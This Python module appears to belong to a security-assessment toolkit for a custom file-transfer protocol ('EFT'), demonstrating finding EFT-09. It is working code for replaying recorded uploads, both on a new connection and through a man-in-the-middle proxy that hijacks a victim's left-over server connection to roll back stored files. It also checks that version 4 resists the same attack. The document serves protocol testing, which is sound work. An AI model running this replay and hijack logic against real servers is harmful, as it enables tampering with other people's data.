"""Replay a recorded upload: nothing in version 3 is fresh except the AES key.

Requests carry no nonce, counter, timestamp or MAC, so the server cannot tell a replayed
828 from a new one. Two ways to replay:

* ``--recording`` with ``--target``: replay the recorded connection's requests, in
  order, on a new connection, waiting for as many answers as the original got. A
  server that issues a new AES key on every 826/827 (as the spec says) decrypts the
  replayed ciphertext under the wrong key, so this only works against servers that
  reuse keys, e.g. one that keeps the last key per client id.
* ``--listen`` (man in the middle): relay the victim's session, then, once the client
  has gone, replay one of its uploads (``--file``, ``--nth``) and a 900 on the server
  connection it left behind, which still holds the session's key. The server stores
  the old file again: an upload replaced later in the session is rolled back.

Success: the server answered the replayed upload with the recorded CRC and the 900
with 1604, i.e. it stored the recorded file again.

``--protocol 4``: on a new connection the replayed message 1 gets a new message 2 (a
fresh server ephemeral key), so the replayed message 3 no longer authenticates and the
server closes. On the victim's left connection the recorded records of an upload
(``--nth``; file names are sealed) are replayed in order: the record counter has moved
on, so the first one fails its tag and the server closes without an answer.
"""

from __future__ import annotations

import argparse
from pathlib import Path

from eft_protocol.codes import RequestCode, ResponseCode

from .common import AttackError, ConnectionClosed, Link, Out, ServerLink, add_listen_argument
from .framing import Frame, name_request
from .proxy import Hijack, MitmConnection, MitmProxy
from .recording import Attempt, SessionView, load_sessions
from .v4 import Upload, V4View, add_protocol_argument, v4_view, v4_views

FINDING = "EFT-09"
SUMMARY = "replay a recorded upload: the server stores the file again"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    add_listen_argument(parser)
    parser.add_argument("--recording", help="replay this recording on a new connection")
    parser.add_argument("--file", help="the file whose upload to replay (default: the first)")
    parser.add_argument("--nth", type=int, default=1, help="which upload of that file (1)")
    add_protocol_argument(parser)


def choose(view: SessionView, name: str | None, nth: int) -> Attempt:
    verified = [a for a in view.attempts if a.verified and (name is None or a.file_name == name)]
    if len(verified) < nth:
        raise AttackError(f"the session has no verified upload number {nth} of {name or 'a file'}")
    return verified[nth - 1]


async def replay_upload(link: Link, client_id: bytes, attempt: Attempt, out: Out) -> bool:
    """Send one recorded upload and its 900 again on a connection that has its key."""
    await link.send(*(frame.raw for frame in attempt.packets))
    answer = await link.receive()
    recorded = attempt.cksum
    if answer.code != ResponseCode.FILE_RECEIVED:
        return out.result(False, f"the server refused the replayed upload ({answer.code})")
    crc = answer.file_received().cksum
    out.step(f"replayed {attempt.file_name!r}: 1603", cksum=crc, recorded_cksum=recorded)
    if crc != recorded:
        await link.send(name_request(client_id, RequestCode.CRC_GIVE_UP, attempt.file_name))
        return out.result(False, "the server decrypted the replay to something else")
    await link.send(name_request(client_id, RequestCode.CRC_OK, attempt.file_name))
    ack = await link.receive()
    stored = ack.code == ResponseCode.ACKNOWLEDGED
    return out.result(
        stored,
        f"the server {'stored' if stored else 'did not store'} {attempt.file_name!r} again "
        f"({attempt.orig_size} bytes, cksum {crc})",
        file_name=attempt.file_name,
        cksum=crc,
    )


def conversation(view: SessionView) -> list[tuple[Frame, int]]:
    """Each recorded request with the number of responses that followed it."""
    turns: list[tuple[Frame, int]] = []
    for _, frame in view.events:
        if frame.is_request:
            turns.append((frame, 0))
        elif turns:
            turns[-1] = (turns[-1][0], turns[-1][1] + 1)
    return turns


async def replay_recording(link: ServerLink, view: SessionView, out: Out) -> bool:
    recorded = [a.cksum for a in view.attempts if a.cksum is not None]
    stored: list[str] = []
    codes: list[int] = []
    last_crc: int | None = None
    try:
        for frame, answers in conversation(view):
            await link.send(frame.raw)
            for _ in range(answers):
                answer = await link.receive(5.0)
                codes.append(answer.code)
                if answer.code == ResponseCode.FILE_RECEIVED:
                    last_crc = answer.file_received().cksum
                ok = answer.code == ResponseCode.ACKNOWLEDGED and frame.code == RequestCode.CRC_OK
                if ok and last_crc in recorded:
                    stored.append(frame.name_field())
    except ConnectionClosed:
        codes.append(-1)
    out.step("the server answered the replay", answers=codes)
    if stored:
        return out.result(True, f"the server stored {stored} again from the replay", files=stored)
    return out.result(
        False,
        "the replay stored nothing: the server's answers never repeated the recorded "
        "1603 CRC followed by 1604",
        answers=codes,
    )


def upload_frames(upload: Upload) -> list[bytes]:
    frames = [upload.meta.frame.raw, *(c.frame.raw for c in upload.chunks)]
    return frames + ([upload.verdict.frame.raw] if upload.verdict else [])


async def answers_to(link: Link, frames: list[bytes], expected: int) -> list[int]:
    """Send ``frames``, then read up to ``expected`` answers; -1 once the server closed."""
    await link.send(*frames)
    codes: list[int] = []
    try:
        for _ in range(expected):
            codes.append((await link.receive(3.0)).code)
    except ConnectionClosed:
        codes.append(-1)
    except AttackError:
        codes.append(0)  # no answer, connection open
    return codes


def verdict_v4(out: Out, codes: list[int], where: str) -> bool:
    # A new message 2 (1602) is the server greeting a new connection, not an acceptance.
    accepted = [c for c in codes if c not in (ResponseCode.PUBLIC_KEY_ACCEPTED, -1, 0)]
    if accepted:
        return out.result(True, f"the server took the replay {where}", answers=codes)
    return out.result(
        False,
        f"the replay {where} stored nothing: the server closed without an answer",
        answers=codes,
    )


async def run_v4(args: argparse.Namespace, out: Out) -> bool:
    if args.recording:
        views = [v for v in v4_views(load_sessions(Path(args.recording))) if v.uploads]
        if not views or views[0].hello is None or views[0].intent is None:
            raise AttackError("the recording holds no version-4 upload")
        view: V4View = views[0]
        assert view.hello is not None and view.intent is not None
        link = await ServerLink.open(args.target)
        try:
            codes = await answers_to(link, [view.hello.raw], 1)
            out.step("replayed message 1: a new message 2", answers=codes)
            rest = [view.intent.raw] + [r.frame.raw for r in view.requests]
            codes += await answers_to(link, rest, len(view.responses))
        finally:
            await link.close()
        return verdict_v4(out, codes, "on a new connection")

    async def after(conn: MitmConnection, view: SessionView) -> bool:
        uploads = [u for u in v4_view(view).uploads if u.verified]
        if len(uploads) < args.nth:
            raise AttackError(f"the session has no verified upload number {args.nth}")
        upload = uploads[args.nth - 1]
        out.step("the victim left; replaying its upload on its server connection")
        codes = await answers_to(conn, upload_frames(upload), 3)
        return verdict_v4(out, codes, "on the victim's left connection")

    return await MitmProxy(args.target, Hijack(after), out).run(args.listen, args.timeout)


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await run_v4(args, out)
    if args.recording:
        sessions = load_sessions(Path(args.recording))
        view = next((v for v in sessions if v.attempts), None)
        if view is None:
            raise AttackError("the recording holds no upload")
        link = await ServerLink.open(args.target)
        try:
            return await replay_recording(link, view, out)
        finally:
            await link.close()

    async def after(conn: MitmConnection, view: SessionView) -> bool:
        attempt = choose(view, args.file, args.nth)
        assert view.client_id is not None
        out.step("the victim left; replaying on its server connection", file=attempt.file_name)
        return await replay_upload(conn, view.client_id, attempt, out)

    return await MitmProxy(args.target, Hijack(after), out).run(args.listen, args.timeout)
